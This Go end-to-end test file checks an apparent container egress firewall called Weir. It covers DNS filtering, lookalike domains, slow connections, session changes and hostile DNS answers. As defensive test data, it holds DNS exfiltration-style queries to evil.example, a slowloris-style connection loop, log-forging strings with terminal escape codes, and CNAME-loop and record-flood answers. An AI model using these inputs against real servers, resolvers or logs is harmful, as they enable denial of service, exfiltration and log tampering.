package e2e

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"math"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
)

// Rows 1, 8, 27 and 28: whatever is asked for and however it is written, a name
// that is not allowed stays inside, and each question is on record.
func TestOddQuestionsStayInside(t *testing.T) {
	o := newOutside(t)
	o.addName("good.example", "198.51.100.10")
	w := startWeir(t, "")
	box := newBox(t)
	w.run("attach", box.Name, "--allow", "good.example:80", "--allow", "*.good.example:80")
	o.asks()
	asked := 0
	for _, name := range []string{
		"evil.example", "c2VjcmV0.evil.example", `good\.example.evil.example`, `a\.good.example.evil.example`, `good.example\000.evil.example`,
		`x\000.good.example`, `x\032y.good.example`, `a\.b.good.example`,
	} {
		for _, options := range []string{"A", "TXT", "NULL", "ANY", "HTTPS", "SVCB", "TYPE65280", "CH TXT", "+tcp A", "+padding=128 A", "+subnet=192.0.2.0/24 A"} {
			out, _ := box.sh(fmt.Sprintf("dig +tries=1 +time=5 %s '%s'", options, name))
			if !strings.Contains(out, "status: NXDOMAIN") && !strings.Contains(out, "status: REFUSED") && !strings.Contains(out, "status: FORMERR") {
				t.Errorf("%s %s: %s", options, name, out)
			}
			asked++
		}
	}
	if names := o.asks(); len(names) > 0 {
		t.Errorf("upstream was asked for %q", names)
	}
	eventually(t, "an event for each question", func() bool {
		return len(w.events(box.Name, "--type", "dns", "--verdict", "deny")) >= asked
	})
	for _, e := range w.events(box.Name, "--type", "dns", "--verdict", "deny") {
		if e.Reason == "" || e.Container != box.Name {
			t.Errorf("event %+v", e)
		}
	}
	// The way itself is open.
	if out, ok := box.sh("dig +short good.example"); !ok || !strings.Contains(out, "198.51.100.10") {
		t.Errorf("an allowed name: %s", out)
	}
}

// Rows 55 and 56: who attaches is told of the sockets that lead past the firewall.
func TestMountedSocketsAreToldAtTheAttach(t *testing.T) {
	w := startWeir(t, "")
	other := filepath.Join(w.dir, "weir.sock") // any socket of the host
	box := newBox(t, "-v", "/var/run/docker.sock:/tmp/docker.sock", "-v", other+":/tmp/other.sock")
	out := w.run("attach", box.Name)
	for _, socket := range []string{"/tmp/docker.sock", "/tmp/other.sock"} {
		if !strings.Contains(out, socket) {
			t.Errorf("no warning of %s: %s", socket, out)
		}
	}
}

// Rows 42 and 61: who says a first message slowly reaches nobody, is cut at the
// deadline, and does not keep others waiting.
func TestSlowFirstMessagesEnd(t *testing.T) {
	o := newOutside(t)
	o.addName("good.example", "198.51.100.10")
	hello(o, "198.51.100.10:80")
	w := startWeir(t, "")
	box := newBox(t)
	w.run("attach", box.Name, "--allow", "good.example:80")
	if out, ok := box.curl("http://good.example/"); !ok {
		t.Fatal(out)
	}
	slow := make(chan string, 1)
	started := time.Now()
	go func() {
		slow <- box.python(`
texts=[b"GET / HTTP/1.1\r\nHost: good.example\r\nX: ", b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03"]
socks=[(socket.create_connection(("good.example",80)), texts[i%2]) for i in range(20)]
ended=0; sent=0; end=time.monotonic()+30
while socks and time.monotonic()<end:
    for s,text in list(socks):
        try: s.send(text[sent:sent+1] or b"x")
        except OSError: socks.remove((s,text)); ended+=1
    sent+=1; time.sleep(0.5)
print(ended)`)
	}()
	for range 5 {
		if out, ok := box.curl("http://good.example/"); !ok {
			t.Errorf("another connection meanwhile: %s", out)
		}
	}
	if got := <-slow; got != "20" {
		t.Errorf("of 20 slow connections %s ended", got)
	}
	t.Logf("after %v", time.Since(started))
	w.waitEvent(box.Name, "a slow first message", func(e Event) bool {
		return e.Type == "connect" && e.Verdict == "deny" && e.Address == "198.51.100.10"
	})
}

// Row 29: what looks like the name of a rule, and is not below it, is another
// name, for DNS and for who claims it on a connection.
func TestLookalikesOfANameAreOtherNames(t *testing.T) {
	o := newOutside(t)
	seen := o.watch(canary4)
	hello(o, canary4+":80")
	server := o.record("198.51.100.10:80", nil, nil)
	passing := []string{"a.good.example", "a.b.good.example", "A.Good.EXAMPLE.", "deep.example", "a.deep.example"}
	others := []string{
		"good.example", "evilgood.example", "evil-good.example", "good.example.evil.example", "a.good.example.evil.example", "a.good.examples",
		"a.good-example.evil.example", "agood.example", "a.evilgood.example", "evildeep.example", "a.evildeep.example", "deep.example.evil.example",
	}
	for _, name := range append(slices.Clone(passing), others...) {
		o.addName(strings.ToLower(strings.TrimSuffix(name, ".")), "198.51.100.10")
	}
	w := startWeir(t, "")
	box := newBox(t)
	w.run("attach", box.Name, "--allow", "*.good.example:80", "--allow", "**.deep.example:80")
	for _, name := range passing {
		if out, ok := box.curl("http://" + name + "/"); !ok {
			t.Errorf("%s: %s", name, out)
		}
	}
	if requests, _ := server.take(); len(requests) != len(passing) {
		t.Errorf("the server saw %+v", requests)
	}
	o.asks()
	addresses := []string{"198.51.100.10", canary4} // of an allowed name, and one that nobody asked for
	for _, name := range others {
		if out, _ := box.exec("dig", "+tries=1", "+time=5", name); !strings.Contains(out, "NXDOMAIN") {
			t.Errorf("%s: %s", name, out)
		}
		for _, address := range addresses {
			if out, ok := box.curl("--resolve", name+":80:"+address, "http://"+name+"/"); ok {
				t.Errorf("%s at %s: %s", name, address, out)
			}
		}
	}
	var denied []Event
	recorded := func(what string, match func(Event) bool) {
		if !slices.ContainsFunc(denied, match) {
			t.Errorf("%s: no event that denies", what)
		}
	}
	eventually(t, "an event for each", func() bool {
		denied = w.events(box.Name, "--verdict", "deny")
		return len(denied) >= len(others)*3
	})
	for _, name := range others {
		recorded(name, func(e Event) bool { return e.Type == "dns" && e.Layer == "default" && e.Host == name })
		for _, address := range addresses {
			recorded(name+" at "+address, func(e Event) bool {
				words := strings.FieldsFunc(e.Reason, func(r rune) bool { return strings.ContainsRune(" ,;:", r) })
				return e.Type == "connect" && e.Address == address && (e.Host == name || slices.Contains(words, name))
			})
		}
	}
	if requests, _ := server.take(); len(requests) > 0 {
		t.Errorf("the server saw %+v", requests)
	}
	if asked, packets := o.asks(), seen(); len(asked)+len(packets) > 0 {
		t.Errorf("asked upstream: %q; %d packets reached the canary", asked, len(packets))
	}
	// A rule that denies is as exact.
	w.run("session", "create", box.Name, "--allow", "*", "--deny", "*.good.example")
	for name, open := range map[string]bool{"a.good.example": false, "a.b.good.example": false, "good.example": true, "evilgood.example": true} {
		if out, ok := box.curl("http://" + name + "/"); ok != open {
			t.Errorf("with a rule that denies: %s: %s", name, out)
		}
	}
}

// kept makes a GET on one connection for each target that it reads, and says
// the status, or what failed.
const kept = `
import http.client, os, ssl, sys
if sys.argv[1] == "443":
    c = http.client.HTTPSConnection("rest.example", 443, timeout=10, context=ssl.create_default_context(cafile=os.environ.get("SSL_CERT_FILE")))
else:
    c = http.client.HTTPConnection("rest.example", 80, timeout=10)
c.connect(); c.auto_open = 0
for target in sys.stdin:
    try:
        c.request("GET", target.strip()); r = c.getresponse(); r.read(); print(r.status, flush=True)
    except Exception as e: print("ended:", type(e).__name__, flush=True)
`

// Row 58: the request after a change of the session is the new session's, on
// the connection of the old one; a session without the host ends it.
func TestRequestsOfAKeptConnectionAreTheCurrentSessions(t *testing.T) {
	w, box, secure, clear := restWorld(t)
	policy := func(path string) string {
		return writeFile(t, "policy.yaml", `{version: 1, network_policies: {r: {endpoints: [{host: rest.example, ports: [80, 443], protocol: rest,
			rules: [{allow: {method: GET, path: "`+path+`"}}]}]}}}`)
	}
	for port, server := range map[string]*Recorder{"443": secure, "80": clear} {
		t.Run(port, func(t *testing.T) {
			old, young, none := "old-"+port, "young-"+port, "none-"+port
			w.run("session", "create", box.Name, "--id", old, "--policy", policy("/a/*"))
			args := []string{"exec", "-i"}
			for _, v := range box.env {
				args = append(args, "-e", v)
			}
			cmd := exec.Command("docker", append(args, box.Name, "python3", "-c", kept, port)...)
			in, err := cmd.StdinPipe()
			if err != nil {
				t.Fatal(err)
			}
			out, err := cmd.StdoutPipe()
			if err != nil {
				t.Fatal(err)
			}
			cmd.Stderr = os.Stderr
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			defer cmd.Wait()
			defer in.Close()
			lines := bufio.NewScanner(out)
			get := func(session, target, want string) {
				t.Helper()
				io.WriteString(in, target+"\n")
				if !lines.Scan() || !strings.HasPrefix(lines.Text(), want) {
					t.Errorf("%s in session %s: %q, want %s", target, session, lines.Text(), want)
				}
				if want == "ended:" {
					return
				}
				verdict := map[string]string{"200": "allow", "403": "deny"}[want]
				w.waitEvent(box.Name, target+" in "+session, func(e Event) bool {
					return e.Type == "http" && e.SessionID == session && e.Path == target && e.Verdict == verdict && e.Port != 0
				})
			}
			get(old, "/a/1", "200")
			get(old, "/b/1", "403")
			w.run("session", "create", box.Name, "--id", young, "--policy", policy("/b/*"))
			get(young, "/a/2", "403")
			get(young, "/b/2", "200")
			w.run("session", "end", young)
			get(old, "/b/3", "403")
			get(old, "/a/3", "200")
			w.run("session", "create", box.Name, "--id", none, "--allow", "other.example:80")
			get(none, "/a/4", "ended:")
			w.waitEvent(box.Name, "the connection's end", func(e Event) bool {
				return e.Type == "connect" && fmt.Sprint(e.Port) == port && strings.Contains(e.Reason, "rest.example")
			})
			requests, _ := server.take()
			var targets []string
			for _, r := range requests {
				targets = append(targets, r.Target)
			}
			if got := strings.Join(targets, " "); got != "/a/1 /b/2 /a/3" || server.opened() != 1 {
				t.Errorf("over %d connections the server saw %s", server.opened(), got)
			}
		})
	}
}

// Row 69: whatever a container calls things, an event is one line, which
// begins as Weir's do, in every form in which events are shown or written.
func TestWhatAContainerSaysForgesNoLine(t *testing.T) {
	o := newOutside(t)
	o.addName("rest.example", "198.51.100.10")
	seen := o.watch(canary4)
	server := o.record("198.51.100.10:80", nil, nil)
	echo(o, "198.51.100.10:7")
	dir := t.TempDir()
	file, ocsf := filepath.Join(dir, "events"), filepath.Join(dir, "ocsf")
	w := startWeir(t, "events:\n  file: "+file+"\n")
	box := newBox(t)
	w.run("attach", box.Name, "--policy", writeFile(t, "policy.yaml", `
version: 1
rules: [{allow: rest.example, ports: "7"}]
network_policies:
  r:
    endpoints: [{host: rest.example, port: 80, protocol: rest, access: read-only}]
    binaries: [{path: "/usr/bin/python3*"}]
`))
	// One message for each place where a name or a path is said.
	box.python(`
import shutil
forged="\r\n2026-01-01T00:00:00.000Z allow connect forged.example:80: forged [global r-1]\n\x1b[2J\x1b]0;owned\x07\x9b31m\u202e"
raw=forged.encode()
def say(port, *parts):
    try:
        s=socket.create_connection(("rest.example",port),5); s.settimeout(5)
        for p in parts: s.sendall(p); s.recv(4096)
    except OSError: pass
for place in (raw, raw.replace(b"\r\n",b"").replace(b"\n",b""), b"\x1b[31m", b"a\rb", b"a\x00b"):
    for port in (80, 7):
        say(port, b"GET /"+place+b" HTTP/1.1\r\nHost: rest.example\r\n\r\n")
        say(port, b"GET / HTTP/1.1\r\nHost: "+place+b"\r\n\r\n")
        say(port, b"GE"+place+b"T / HTTP/1.1\r\nHost: rest.example\r\n\r\n")
        say(port, b"CONNECT "+place+b":80 HTTP/1.1\r\n\r\n")
        say(port, b"\x05\x01\0", b"\x05\x01\0\x03"+bytes([len(place)])+place+b"\0\x50")
        name=b"\0"+len(place).to_bytes(2,"big")+place
        names=len(name).to_bytes(2,"big")+name
        ext=b"\0\0"+len(names).to_bytes(2,"big")+names
        body=b"\x03\x03"+b"r"*32+b"\0"+b"\0\x02\x13\x01"+b"\x01\0"+len(ext).to_bytes(2,"big")+ext
        body=b"\x01"+len(body).to_bytes(3,"big")+body
        say(port, b"\x16\x03\x01"+len(body).to_bytes(2,"big")+body)
    label=place[:60]
    q=b"\x12\x34\x01\0\0\1\0\0\0\0\0\0"+bytes([len(label)])+label+b"\x04test\0\0\1\0\1"
    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(5)
    try: s.sendto(q,("8.8.8.8",53)); s.recv(512)
    except OSError: pass
for target in (b"/%0a%1b%5b2Jforged", b"/%9b31m", b"/a?%0d%0a=%zz"):
    say(80, b"DELETE "+target+b" HTTP/1.1\r\nHost: rest.example\r\n\r\n")
shutil.copy("/usr/bin/curl", "/tmp/"+forged)
`)
	// And by a program that is called so.
	if out, ok := box.sh("/tmp/*forged* -sS -m 5 http://rest.example/"); ok || strings.Contains(out, "not found") {
		t.Errorf("a program that is not listed: %s", out)
	}
	w.waitEvent(box.Name, "the program", func(e Event) bool {
		return e.Verdict == "deny" && strings.Contains(e.Binary, "forged.example")
	})
	for kind, least := range map[string]int{"dns": 5, "connect": 20, "http": 3} {
		eventually(t, fmt.Sprintf("%d events of type %s that deny", least, kind), func() bool {
			return len(w.events(box.Name, "--type", kind, "--verdict", "deny")) >= least
		})
	}
	all := w.events(box.Name)
	if err := os.WriteFile(ocsf, []byte(w.run("events", "--container", box.Name, "-o", "ocsf")), 0o600); err != nil {
		t.Fatal(err)
	}
	texts := map[string]string{"weir events": w.run("events", "--container", box.Name), "weir dns": w.run("dns", box.Name), "weir ps": w.run("ps")}
	for name, path := range map[string]string{"the events' file": file, "events as OCSF": ocsf, "the daemon's log": w.log.Name()} {
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		texts[name] = string(b)
	}
	for name, text := range texts {
		bad := func(r rune) bool {
			return r < ' ' && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r < 0xa0 || r == 0x202e || r == '�'
		}
		if i := strings.IndexFunc(text, bad); i >= 0 {
			t.Errorf("%s: a control character: %q", name, text[max(0, i-80):min(len(text), i+80)])
		}
		if regexp.MustCompile(`(?m)^\S+ allow connect forged`).MatchString(text) {
			t.Errorf("%s: a forged line in\n%s", name, text)
		}
	}
	if n := strings.Count(texts["weir events"], "\n"); n != len(all) {
		t.Errorf("%d events in %d lines", len(all), n)
	}
	for _, name := range []string{"the events' file", "events as OCSF"} {
		for line := range strings.Lines(texts[name]) {
			if !json.Valid([]byte(line)) {
				t.Errorf("%s: a line that is no JSON: %q", name, line)
			}
		}
	}
	requests, raw := server.take()
	if packets := seen(); strings.Contains(raw, "forged.example") || strings.Contains(raw, "\x1b") || len(packets) > 0 {
		t.Errorf("the server saw %+v, the canary %d packets", requests, len(packets))
	}
}

// Row 73: of what a hostile server answers a part is taken, for a bounded time,
// and only that part counts.
func TestHostileAnswersAreCutToSize(t *testing.T) {
	o := newOutside(t)
	a := func(name, address string, ttl uint32) dns.RR {
		return &dns.A{Hdr: dns.RR_Header{Name: dns.Fqdn(name), Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: ttl}, A: net.ParseIP(address).To4()}
	}
	cname := func(name, target string) dns.RR {
		return &dns.CNAME{Hdr: dns.RR_Header{Name: dns.Fqdn(name), Rrtype: dns.TypeCNAME, Class: dns.ClassINET, Ttl: 30}, Target: dns.Fqdn(target)}
	}
	answer := func(name string, records ...dns.RR) {
		o.addOdd(name, func(m *dns.Msg) { m.Answer, m.Compress = records, true })
	}
	flood := []dns.RR{a("flood.example", "198.51.100.10", 30)}
	for i := range 3990 {
		flood = append(flood, a("flood.example", fmt.Sprintf("198.18.%d.%d", 100+i>>8, i&255), 30))
	}
	answer("flood.example", append(flood, a("flood.example", canary4, 30))...)
	answer("self.example", cname("self.example", "self.example"), a("self.example", canary4, 30))
	answer("loop.example", cname("loop.example", "b.example"), cname("b.example", "loop.example"), a("loop.example", canary4, 30))
	answer("open.example", cname("open.example", "loop2.example")) // its end is for somebody else to say
	var chain []dns.RR
	for i := range 40 {
		chain = append(chain, cname(fmt.Sprintf("c%d.example", i), fmt.Sprintf("c%d.example", i+1)))
	}
	answer("c0.example", append(chain, a("c40.example", canary4, 30))...)
	answer("aside.example", a("bank.example", canary4, 30), a("aside.example", "198.51.100.10", 30))
	answer("zero.example", a("zero.example", "198.51.100.11", 0))
	answer("forever.example", a("forever.example", "198.51.100.12", math.MaxUint32))
	seen := o.watch(canary4)
	for _, address := range []string{"198.51.100.10", "198.51.100.11", "198.51.100.12", canary4} {
		hello(o, address+":80")
	}
	w := startWeir(t, "")
	box := newBox(t)
	w.run("attach", box.Name, "--allow", "*.example:80")
	o.asks()
	for _, name := range []string{"flood", "aside", "zero", "forever"} {
		if out, ok := box.curl("http://" + name + ".example/"); !ok || !strings.Contains(out, "hello "+name) {
			t.Errorf("%s: %s", name, out)
		}
	}
	for _, name := range []string{"self", "loop", "c0", "open"} {
		start := time.Now()
		if out, ok := box.curl("http://" + name + ".example/"); ok || strings.Contains(out, "timed out") {
			t.Errorf("%s: %s after %v", name, out, time.Since(start))
		}
	}
	if asked := o.asks(); len(asked) > 60 {
		t.Errorf("%d questions upstream: %q", len(asked), asked)
	}
	for name, want := range map[string]int{"flood.example": 64, "aside.example": 1, "forever.example": 1} {
		out, _ := box.exec("dig", "+tcp", "+tries=1", "+noall", "+answer", name)
		if n := strings.Count(out, "IN\tA\t"); n != want || strings.Contains(out, canary4) {
			t.Errorf("%s: %d addresses: %s", name, n, out)
		}
		for line := range strings.Lines(out) {
			var ttl int
			if f := strings.Fields(line); len(f) > 1 {
				fmt.Sscan(f[1], &ttl)
			}
			if ttl > 300 {
				t.Errorf("%s: a lifetime of %d s", name, ttl)
			}
		}
	}
	// The addresses that were cut off, or slipped in, have none of these names.
	for _, name := range []string{"flood.example", "self.example", "loop.example", "c0.example", "bank.example"} {
		if out, ok := box.curl("--resolve", name+":80:"+canary4, "http://"+name+"/"); ok {
			t.Errorf("%s at an address it was not answered with: %s", name, out)
		}
		w.waitEvent(box.Name, name+" at the canary", func(e Event) bool {
			return e.Type == "connect" && e.Verdict == "deny" && e.Address == canary4 && (e.Host == name || strings.Contains(e.Reason, name))
		})
	}
	if packets := seen(); len(packets) > 0 {
		t.Errorf("%d packets reached the canary", len(packets))
	}
	var names []struct {
		Name, Address string
		Until         time.Time
	}
	w.json(&names, "dns", box.Name)
	count := map[string]int{}
	for _, n := range names {
		count[n.Name]++
		if left := time.Until(n.Until); n.Address == canary4 || left <= 0 || left > 24*time.Hour+time.Minute {
			t.Errorf("%+v, for %v", n, left)
		}
	}
	if count["flood.example"] != 64 || count["zero.example"] != 1 || count["forever.example"] != 1 || count["bank.example"] != 0 {
		t.Errorf("names: %v", count)
	}
}
